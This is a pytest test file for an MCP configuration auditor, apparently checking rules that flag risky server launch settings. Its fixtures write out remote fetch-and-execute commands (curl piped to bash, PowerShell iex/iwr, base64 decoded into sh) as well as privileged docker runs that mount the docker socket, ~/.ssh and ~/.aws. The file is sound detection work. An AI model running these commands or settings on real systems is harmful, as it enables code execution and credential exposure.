"""MCP3xx: shell launchers, dangerous docker flags, broad file-system access."""

from __future__ import annotations

from pathlib import Path

import pytest

from mcpaudit.model import Severity
from tests.rules.homes import FORMATS, ids, line_of, only, scan_home, write

PINNED = "ghcr.io/acme/mcp@sha256:" + "cd" * 32


@pytest.mark.parametrize("client", FORMATS)
def test_curl_pipe_to_shell_is_high(isolated_home: Path, client: str) -> None:
    script = "curl -fsSL https://get.example.com/mcp.sh | bash && mcp-server"
    path = write(isolated_home, client, {"boot": {"command": "bash", "args": ["-c", script]}})
    result = scan_home(isolated_home)
    f = only(result, "MCP302")
    assert (f.server, f.file, f.severity) == ("boot", str(path), Severity.HIGH)
    assert f.location.line == line_of(path, "get.example.com")
    assert "MCP301" not in ids(result)  # reported once, at the higher severity


@pytest.mark.parametrize(
    ("command", "args", "rule", "severity"),
    [
        ("sh", ["-c", "cd ~/mcp && ./server --stdio"], "MCP301", Severity.MEDIUM),
        ("bash", ["-lc", 'eval "$(cat ~/.mcp-init)"; server'], "MCP301", Severity.HIGH),
        ("cmd", ["/c", "cd C:\\mcp && server.exe"], "MCP301", Severity.MEDIUM),
        ("powershell", ["-NoProfile", "-Command", "Start-Server"], "MCP301", Severity.MEDIUM),
        ("sh", ["-c", "echo ZWNobyBoaQ== | base64 -d | sh"], "MCP303", Severity.HIGH),
        ("powershell", ["-EncodedCommand", "ZQBjAGgAbwA="], "MCP303", Severity.HIGH),
        ("pwsh", ["-c", "iex (iwr https://x.example.com/a.ps1)"], "MCP302", Severity.HIGH),
        # absent paths under a temporary folder: medium (MCP304 checks real ones on disk)
        ("/tmp/mcp-server", [], "MCP304", Severity.MEDIUM),
        ("node", ["/var/tmp/build/server.js"], "MCP304", Severity.MEDIUM),
        ("sudo", ["node", "/opt/mcp/server.js"], "MCP305", Severity.HIGH),
        ("sh", ["-c", "sudo -n /opt/mcp/server"], "MCP305", Severity.HIGH),
    ],
)
def test_shell_variants(
    isolated_home: Path, command: str, args: list[str], rule: str, severity: Severity
) -> None:
    write(isolated_home, "cursor", {"s": {"command": command, "args": args}})
    f = only(scan_home(isolated_home), rule)
    assert (f.server, f.severity) == ("s", severity)


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("node", ["/opt/mcp/server.js"]),
        ("python3", ["-m", "my_server"]),
        ("cmd", ["/c", "npx", "-y", "pkg@1.0.0"]),  # a plain wrapper, not a script
        ("env", ["LOG=1", "node", "server.js"]),
    ],
)
def test_not_shell(isolated_home: Path, command: str, args: list[str]) -> None:
    write(isolated_home, "cursor", {"s": {"command": command, "args": args}})
    assert not {i for i in ids(scan_home(isolated_home)) if i.startswith("MCP30")}


@pytest.mark.parametrize("client", FORMATS)
def test_privileged_docker_with_socket_and_host_network(isolated_home: Path, client: str) -> None:
    args = [
        "run", "-i", "--rm", "--privileged", "--network", "host",
        "-v", "/var/run/docker.sock:/var/run/docker.sock", "--cap-add=SYS_ADMIN", PINNED,
    ]  # fmt: skip
    path = write(isolated_home, client, {"box": {"command": "docker", "args": args}})
    result = scan_home(isolated_home)
    f = only(result, "MCP310")
    assert (f.server, f.file, f.severity, f.location.line) == (
        "box",
        str(path),
        Severity.HIGH,
        line_of(path, "--privileged"),
    )
    f = only(result, "MCP311")
    assert (f.severity, f.location.line) == (Severity.CRITICAL, line_of(path, "docker.sock"))
    f = only(result, "MCP312")
    assert (f.severity, f.location.line) == (
        Severity.MEDIUM,
        line_of(path, '"host"' if client not in ("goose", "continue", "codex") else "host"),
    )
    assert only(result, "MCP313").severity == Severity.HIGH


def test_docker_mount_variants(isolated_home: Path) -> None:
    home = str(isolated_home)
    write(
        isolated_home,
        "cursor",
        {
            "root": {"command": "docker", "args": ["run", "-v", "/:/host:ro", PINNED]},
            "ssh": {
                "command": "docker",
                "args": ["run", "--mount", f"type=bind,source={home}/.ssh,target=/k", PINNED],
            },
            "aws": {"command": "docker", "args": ["run", "--volume=~/.aws:/root/.aws", PINNED]},
            "etc": {"command": "docker", "args": ["run", "-v", "/etc:/etc", PINNED]},
            "project": {
                "command": "docker",
                "args": ["run", "-v", f"{home}/projects/app:/work", PINNED],
            },
            "seccomp": {
                "command": "docker",
                "args": ["run", "--security-opt", "seccomp=unconfined", PINNED],
            },
        },
    )
    result = scan_home(isolated_home)
    assert only(result, "MCP311", "root").severity == Severity.HIGH
    assert only(result, "MCP311", "ssh").severity == Severity.HIGH
    assert only(result, "MCP311", "aws").severity == Severity.HIGH
    assert only(result, "MCP311", "etc").severity == Severity.MEDIUM
    assert only(result, "MCP313", "seccomp").severity == Severity.MEDIUM
    assert not [f for f in result.findings if f.server == "project"]


@pytest.mark.parametrize("client", FORMATS)
def test_filesystem_server_given_home(isolated_home: Path, client: str) -> None:
    pkg = "@modelcontextprotocol/server-filesystem@2025.8.21"
    path = write(
        isolated_home,
        client,
        {
            "fs": {"command": "npx", "args": ["-y", pkg, "~"]},
            "scoped": {"command": "npx", "args": ["-y", pkg, f"{isolated_home}/projects/app"]},
        },
    )
    result = scan_home(isolated_home)
    f = only(result, "MCP320")
    assert (f.server, f.file, f.severity) == ("fs", str(path), Severity.HIGH)
    assert f.location.pointer.endswith("/command/3" if client == "opencode" else "/args/2")
    assert f.location.line == line_of(
        path, '"~"' if client not in ("goose", "continue", "codex") else "~"
    )


@pytest.mark.parametrize(
    ("arg", "severity"),
    [
        ("/", Severity.HIGH),
        ("$HOME", Severity.HIGH),
        ("${userHome}", Severity.HIGH),
        ("/home/dev", Severity.HIGH),
        ("/Users", Severity.HIGH),
        ("~/.ssh", Severity.HIGH),
        ("~/.config", Severity.MEDIUM),
        ("/etc", Severity.MEDIUM),
        ("~/projects/app", None),
        ("/home/dev/projects/app", None),
    ],
)
def test_filesystem_paths(isolated_home: Path, arg: str, severity: Severity | None) -> None:
    write(
        isolated_home,
        "cursor",
        {
            "fs": {
                "command": "npx",
                "args": ["-y", "@modelcontextprotocol/server-filesystem@2025.8.21", arg],
            }
        },
    )
    found = [f for f in scan_home(isolated_home).findings if f.rule_id == "MCP320"]
    assert [f.severity for f in found] == ([severity] if severity else [])


def test_generic_server_given_root_is_medium(isolated_home: Path) -> None:
    write(isolated_home, "cursor", {"tool": {"command": "my-mcp", "args": ["--root=/"]}})
    assert only(scan_home(isolated_home), "MCP320").severity == Severity.MEDIUM
